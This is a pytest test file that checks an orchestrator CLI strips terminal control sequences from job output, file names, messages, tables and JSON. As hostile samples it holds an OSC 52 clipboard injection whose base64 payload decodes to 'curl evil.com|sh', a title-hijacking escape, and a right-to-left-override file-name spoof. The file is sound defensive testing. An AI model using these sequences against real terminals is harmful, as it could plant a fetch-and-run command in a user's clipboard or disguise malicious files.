"""Nothing that a worker, a file or an API says can steer the terminal of the person who reads it."""

from __future__ import annotations

import json
import re
import sys
from pathlib import Path

import pytest

from orchestrator.cli import console, tables
from orchestrator.client.events import Metrics, Progress, Running
from orchestrator.core.lease import watchdog_report
from orchestrator.core.text.terminal import LINE_CHARS
from orchestrator.errors import UserError
from orchestrator.remote.transfer.collect import ArchivePart, Collector, CollectRequest
from tests.cli_fixture import Tpujob

CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmNvbXxzaA==\x07"
TITLE = "\x1b]0;pwned\x07"

JOB = r"""
tpu: {zone: us-central1-a}
command: |
  printf '\033]52;c;Y3VybCBldmlsLmNvbXxzaA==\007clipboard\n'
  printf '\033]0;pwned\007title\n'
  printf '\033[2J\033[1;1Hhome\033[31m red\033[0m\n'
  printf '\302\233' ; printf '31mC1 controls\n'
  printf 'moc\342\200\256gnp.exe\n'
  printf '\000\001\010nul\n'
  printf '10%%\r50%%\r100%%\n'
  printf 'cloud    Google Cloud, project acme\n'
  printf '\377\376 not UTF-8\n'
  head -c 20000000 /dev/zero | tr '\0' x; echo
  printf '\033]52;c;never ends'
"""


def test_24_what_a_job_prints_is_text_of_bounded_length_with_its_worker_in_front(tpujob: Tpujob) -> None:
    said = tpujob("run", tpujob.job(JOB))
    assert said.returncode == 0, said.stderr
    assert not CONTROLS.search(said.text)
    lines = [line.removeprefix("worker0 | ") for line in said.stdout.splitlines() if line.startswith("worker0 | ")]
    assert lines[:9] == [
        *("clipboard", "title", "home red", "C1 controls", "mocgnp.exe", "nul", "100%"),
        "cloud    Google Cloud, project acme",  # cannot be taken for a line of ours: it says whose it is
        "�� not UTF-8",
    ]
    assert lines[9] == "x" * (LINE_CHARS - 1) + "…"
    assert not CONTROLS.search(tpujob("logs", _run(tpujob)).text)
    for line in tpujob("logs", _run(tpujob), "--json").stdout.splitlines():
        assert not CONTROLS.search(json.loads(line)["line"])


def test_22_a_file_name_with_an_escape_is_replaced_and_printed_without_it(tpujob: Tpujob) -> None:
    job = r"""
tpu: {zone: us-central1-a}
command: |
  echo fine > $TPUJOB_ARTIFACTS/fine.txt
  echo x > "$TPUJOB_ARTIFACTS/$(printf 'a\033]0;pwned\007b')"
  echo x > "$TPUJOB_ARTIFACTS/$(printf 'two\nlines')"
"""
    said = tpujob("run", tpujob.job(job))
    assert said.returncode == 0 and "a\\u001b]0;pwned\\u0007b is " in said.stderr
    kept = sorted(path.name for path in tpujob.directory.glob("runs/*/worker0/artifacts/*"))
    assert [name.partition("~")[0] for name in kept] == ["a__0_pwned_b", "fine.txt", "two_lines"]
    assert not CONTROLS.search(said.text + tpujob("show").text + tpujob("show", "--json").text)


def _run(tpujob: Tpujob) -> str:
    return str(json.loads(tpujob("list", "--json").stdout)[0]["run"])


@pytest.mark.parametrize("hostile", [CLIPBOARD, TITLE, "\x1b[2J", "\x9b31m", "\u202e", "\r", "\x08"])
def test_messages_are_cleaned_whoever_wrote_them(hostile: str, capfd: pytest.CaptureFixture[str]) -> None:
    console.console.cache_clear()
    voice = console.console()
    voice.notice("note", f"a{hostile}b")
    voice.alert(f"a{hostile}b\nsecond line")
    voice.reporter.fail(UserError(f"a{hostile}b", hint=f"c{hostile}d"))
    console.emit(f"a{hostile}b\tc")
    out, err = capfd.readouterr()
    assert not CONTROLS.search(out + err)
    assert err == "note     ab\nab\nsecond line\nab\nhint: cd\n" and out == "ab\tc\n"
    console.console.cache_clear()


@pytest.mark.parametrize("hostile", [CLIPBOARD, TITLE, "\x1b[2J", "\x9b31m", "\u202e", "\r", "\x08", "[blink]", "[/]"])
def test_cells_and_the_live_line_are_text_whoever_wrote_them(
    hostile: str, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """On a terminal: rich draws the table, and brackets in a cell are no markup."""
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setenv("NO_COLOR", "1")
    for stream in (sys.stdout, sys.stderr):
        monkeypatch.setattr(stream, "isatty", lambda: True)
    console.console.cache_clear()
    cells = [f"a{hostile}b", f"{hostile}READY"]
    tables.print_table(("NAME", "STATE"), [cells], states=(1,), wraps=(0,))
    console.console().show(Running("r", "main", "google", 0.0, 60.0, 0.1, 9.6))
    for event in (Metrics(0, 1, {f"lo{hostile}ss": 1.0}), Progress("ship", f"a{hostile}b")):
        console.console().show(event)
        console.console()._live()._draw()  # as the clock does
    console.console().quiet()
    out, err = capfd.readouterr()
    drawn = out + re.sub("\r\x1b\\[K", "", err)
    assert not CONTROLS.search(drawn) and "READY" in out
    if "[" in hostile and "\x1b" not in hostile:
        assert f"a{hostile}b" in out and f"a{hostile}b" in err
    console.console.cache_clear()


def test_json_carries_controls_escaped(capfd: pytest.CaptureFixture[str]) -> None:
    console.console.cache_clear()
    hostile = f"{CLIPBOARD}\x9b31m\u202e"
    console.emit_json({"detail": hostile, "ä": "ü"})
    out = capfd.readouterr().out
    assert not CONTROLS.search(out) and json.loads(out) == {"detail": hostile, "ä": "ü"}


@pytest.mark.parametrize(
    "text", ["[" * 5000, '{"worker": 0, "armed": true, "lease": ' + "9" * 4000 + "}", '{"lease": 1e999}', "\0", "7"]
)
def test_whatever_a_job_publishes_as_the_switch_is_read_as_armed_or_not(text: str) -> None:
    (watchdog,) = watchdog_report.read_watchdogs([{watchdog_report.ATTRIBUTE: text}], 1)
    assert watchdog.armed is (text.startswith('{"worker": 0, "armed": true'))


@pytest.mark.parametrize("size", ["1e999", "-Infinity", "null", '"many"', "[]"])
def test_23_an_index_that_lies_about_sizes_is_an_error_of_the_worker_and_not_of_ours(size: str) -> None:
    from orchestrator.errors import RemoteError

    row = json.loads(f'{{"path": "a", "size_bytes": {size}, "sha256": ""}}')
    with pytest.raises(RemoteError, match="the index of the artifacts makes no sense"):
        Collector(CollectRequest("", Path("runs"), ("*",)))._index(ArchivePart(0), lambda: row)


@pytest.mark.parametrize("metrics", [
    "[" * 100_000,
    pytest.param('{"test_accuracy": ' + "9" * 1000 + "}", marks=pytest.mark.exhaustive),
    pytest.param('{"test_accuracy": NaN, "images_per_s": 1e999}', marks=pytest.mark.exhaustive),
])  # fmt: skip
def test_metrics_made_to_confuse_cost_neither_the_result_nor_the_release(tpujob: Tpujob, metrics: str) -> None:
    (tpujob.directory / "code").mkdir()
    (tpujob.directory / "code" / "metrics.json").write_text(metrics)
    job = "tpu: {zone: us-central1-a}\ncode: code\ncommand: cp metrics.json $TPUJOB_ARTIFACTS/\n"
    said = tpujob("run", tpujob.job(job))
    assert said.returncode == 0, said.stderr
    assert "result   succeeded" in said.stdout and "absent (checked" in said.stdout
    assert tpujob("show", _run(tpujob), "--json").returncode == 0
